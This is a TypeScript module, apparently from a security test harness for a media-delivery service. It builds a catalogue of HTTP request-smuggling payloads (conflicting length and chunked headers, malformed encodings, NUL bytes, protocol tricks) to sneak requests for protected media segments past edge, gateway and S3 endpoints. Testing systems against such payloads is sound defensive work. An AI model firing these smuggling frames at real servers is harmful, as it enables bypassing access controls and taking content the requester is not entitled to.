import type { Forgery } from '../forgery';
import { mediaQuery, mediaSecrets } from '../pieces';
import type { Door, Scene } from '../scene';

/** Bytes between a request that a server takes and the one that is smuggled behind it. */
const FRAMES: Readonly<Record<string, (smuggled: string, host: string) => string>> = {
  'two lengths': (s, host) => `${post(host)}Content-Length: 0\r\nContent-Length: ${s.length}\r\n\r\n${s}`,
  'length and chunks': (s, host) =>
    `${post(host)}Content-Length: ${s.length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${s}`,
  'chunks and length': (s, host) =>
    `${post(host)}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n${s}`,
  'chunks, spelt': (s, host) => `${post(host)}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${s}`,
  'chunks, space': (s, host) => `${post(host)}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n${s}`,
  'chunks, tab': (s, host) =>
    `${post(host)}Transfer-Encoding:\tchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n${s}`,
  'chunks, twice': (s, host) =>
    `${post(host)}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n${s}`,
  'chunks, folded': (s, host) => `${post(host)}Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n${s}`,
  'chunk size, sign': (s, host) => `${post(host)}Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n${s}`,
  'chunk size, huge': (s, host) =>
    `${post(host)}Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n\r\n${s}`,
  'chunk extension': (s, host) =>
    `${post(host)}Transfer-Encoding: chunked\r\n\r\n0;${'x'.repeat(20_000)}\r\n\r\n${s}`,
  'chunk, bare newline': (s, host) => `${post(host)}Transfer-Encoding: chunked\r\n\r\n0\n\n${s}`,
  'length with sign': (s, host) => `${post(host)}Content-Length: +0\r\n\r\n${s}`,
  'length in hex': (s, host) => `${post(host)}Content-Length: 0x0\r\n\r\n${s}`,
  'length, list': (s, host) => `${post(host)}Content-Length: 0, ${s.length}\r\n\r\n${s}`,
  'length below zero': (s, host) => `${post(host)}Content-Length: -1\r\n\r\n${s}`,
  'length, huge': (s, host) => `${post(host)}Content-Length: 99999999999999999999\r\n\r\n${s}`,
  'GET with a body': (s, host) =>
    `GET / HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${s.length}\r\n\r\n${s}`,
  pipeline: (s, host) => `GET /nothing HTTP/1.1\r\nHost: ${host}\r\n\r\n${s}`,
  'header with newline': (s, host) => `GET /nothing HTTP/1.1\r\nHost: ${host}\r\nX: a\n\n${s}`,
  'bare newlines': (s, host) => `GET /nothing HTTP/1.1\nHost: ${host}\n\n${s}`,
  'bare returns': (s, host) => `GET /nothing HTTP/1.1\rHost: ${host}\r\r${s}`,
  'HTTP/0.9': s => s.replace(/ HTTP\/1\.1[\s\S]*/, '\r\n'),
  'HTTP/1.0': s => s.replace('HTTP/1.1', 'HTTP/1.0'),
  'HTTP/2.0': s => s.replace('HTTP/1.1', 'HTTP/2.0'),
  'HTTP/2 preface': s => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${s}`,
  'no host': s => s.replace(/Host: .*\r\n/, ''),
  'a space before the host': s => s.replace('Host:', ' Host:'),
  'NUL in a header': s => s.replace('\r\n\r\n', '\r\nX: a\u0000b\r\n\r\n'),
  'NUL in the path': s => s.replace(' HTTP', '\u0000 HTTP'),
  'a tab for a space': s => s.replace(' ', '\t'),
  'two spaces': s => s.replace(' ', '  '),
  'a hash': s => s.replace(' HTTP', '#x HTTP'),
  'an empty line first': s => `\r\n\r\n${s}`,
  'TLS hello': s => `\u0016\u0003\u0001\u0000\u00a5\u0001${s}`,
  'cut in the head': s => s.slice(0, -10),
  'nothing at all': () => '',
  'half a line': s => s.slice(0, 12),
};

/** Requests that two readers might cut differently, with one for the film inside, at every door. */
export function* bySmuggling(scene: Scene): Generator<Forgery> {
  const { wanted, own, bucket } = scene;
  const secrets = mediaSecrets(own.signature);
  const goals: [Door, string][] = [
    ['edge', wanted.segment],
    ['edge', `${wanted.segment}?${mediaQuery(own.signature)}`],
    ['edge', wanted.source],
    ['gateway', wanted.playlist],
    ['s3', `/${bucket}${wanted.segment}`],
  ];
  for (const [name, frame] of Object.entries(FRAMES)) {
    for (const [door, path] of goals) {
      const { host } = new URL(scene.origins[door]);
      const smuggled = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;
      const bytes = frame(smuggled, host);
      yield { name, door, bytes, secrets, isHead: false, breaksOff: true };
    }
  }
}

function post(host: string): string {
  return `POST /nothing HTTP/1.1\r\nHost: ${host}\r\n`;
}
